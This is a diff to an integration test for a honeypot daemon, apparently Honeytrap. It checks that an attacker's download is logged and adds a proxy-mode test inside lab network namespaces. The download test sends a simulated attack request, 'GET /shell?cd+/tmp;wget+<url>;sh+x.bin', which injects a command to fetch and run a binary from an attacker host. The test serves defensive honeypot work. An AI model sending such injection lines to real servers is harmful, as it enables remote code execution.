@@ -7,7 +7,9 @@
 // sent, and the daemon must come up and run as it does without them.
 // Then with http-download beside them, in namespaces: an attacker serving a
 // file over nginx sends a wget line; the file it serves must be in
-// attackers.json's downloads_0 fields and in save-file's downloads folder.
+// attackers.json's downloads_0 fields and in save-file's downloads folder. A
+// port in proxy mode (to nginx in a third namespace) gives operation_mode 8
+// and the proxy connection.
 import { spawn } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { cp, mkdir, readFile, readdir } from 'node:fs/promises';
@@ -240,9 +242,11 @@ describe('log-json, log-attacker and save-file in a daemon', () => {
   });
 });
 
-describe('with http-download: a file the attacker serves reaches attackers.json and downloads/', () => {
+describe('with http-download and a proxy port, in namespaces', () => {
   const ATTACKER = '10.99.66.2';
   const SENSOR = '10.99.66.1';
+  const TARGET = '10.99.67.2';
+  const PROXY_PORT = 8081;
   const BIN = Buffer.concat([Buffer.from('\x7fELF\x01\x01\x01\x00'), Buffer.alloc(120, 0x41)]);
   let net: Netns;
   let d: HoneytrapDaemon;
@@ -252,9 +256,11 @@ describe('with http-download: a file the attacker serves reaches attackers.json 
 
   beforeAll(async () => {
     requireTools(['nginx', 'ncat']);
-    net = Netns.create('outputs', ['att', 'hp']);
+    net = Netns.create('outputs', ['att', 'hp', 'tgt']);
     net.link('att', `${ATTACKER}/24`, 'hp', `${SENSOR}/24`);
+    net.link('tgt', `${TARGET}/24`, 'hp', '10.99.67.1/24');
     await startNginx(net, 'att', ATTACKER, 'index\n', 80, { files: { 'bins/x.bin': BIN } });
+    await startNginx(net, 'tgt', TARGET, 'the proxied server\n', 80);
     dir = await makeTempDir('honeytrap-outputs-dl-');
     const pluginsDir = join(dir, 'plugins');
     await install(pluginsDir, [...OUTPUTS, 'http-download']);
@@ -267,10 +273,11 @@ describe('with http-download: a file the attacker serves reaches attackers.json 
     expect(built.code, built.stdout + built.stderr).toBe(0);
     d = await HoneytrapDaemon.start(
       (store) => ({
-        ...testConfig(store, {
-          ports: [{ port: hp, template: '80_tcp' }],
-          capture: { addresses: [SENSOR] },
-        }),
+        ...testConfig(store, { ports: [], capture: { addresses: [SENSOR] } }),
+        ports: [
+          { port: hp, template: '80_tcp' },
+          { port: PROXY_PORT, mode: 'proxy', proxy: { target: `${TARGET}:80` } },
+        ],
         plugins: {
           dirs: [pluginsDir],
           // 10.99.x.x is a private range: the lab's policy allows it
@@ -294,7 +301,7 @@ describe('with http-download: a file the attacker serves reaches attackers.json 
     await net?.teardown();
   });
 
-  test('downloads_0 in attackers.json and downloads/<md5>-x.bin hold the file', async () => {
+  test('a wget line: downloads_0 in attackers.json and downloads/<md5>-x.bin hold the file', async () => {
     const url = `http://${ATTACKER}/bins/x.bin`;
     const data = Buffer.from(
       `GET /shell?cd+/tmp;wget+${url};sh+x.bin HTTP/1.1\r\nHost: ${SENSOR}\r\n\r\n`,
@@ -340,5 +347,45 @@ describe('with http-download: a file the attacker serves reaches attackers.json 
     ]);
     const [logLine] = await lines(join(dir, 'log', 'attacker.log'));
     expect(logLine).toContain(`tcp ${ATTACKER}:${sourcePort} -> ${SENSOR}:${hp} ${md5(data)} `);
+  }, 60_000);
+
+  test('proxy mode: operation_mode 8, proxy_connection the target and what it answered', async () => {
+    const data = Buffer.from(`GET / HTTP/1.1\r\nHost: ${SENSOR}\r\nConnection: close\r\n\r\n`);
+    const sourcePort = 45124;
+    // no --send-only: ncat half-closes at the end of its input and reads the answer
+    const r = await net.exec(
+      'att',
+      ['ncat', '-p', String(sourcePort), SENSOR, String(PROXY_PORT)],
+      {
+        input: data,
+      },
+    );
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toContain('the proxied server');
+    const a = await attackFrom(ATTACKER, sourcePort, d, ['http-download', ...OUTPUTS]);
+    expect([a.mode, a.peer, a.fallback]).toEqual([
+      'proxy',
+      { address: TARGET, port: 80, role: 'proxy' },
+      undefined,
+    ]);
+    const answer = Buffer.from(a.sent.data, 'base64');
+    expect(answer.toString()).toContain('the proxied server');
+    const rec = (await lines(join(dir, 'log', 'attackers.json')))
+      .map((l) => JSON.parse(l) as Record<string, unknown>)
+      .find((x) => (x.attack_connection as { local_port: number }).local_port === PROXY_PORT);
+    expect(rec?.operation_mode).toBe(8);
+    expect(rec?.proxy_connection).toEqual({
+      protocol: 'tcp',
+      remote_ip: TARGET,
+      remote_port: 80,
+      local_ip: '0.0.0.0',
+      local_port: 0,
+      payload: {
+        md5_hash: md5(answer),
+        sha512_hash: sha512(answer),
+        length: answer.length,
+        data_hex: answer.toString('hex'),
+      },
+    });
   }, 60_000);
 });
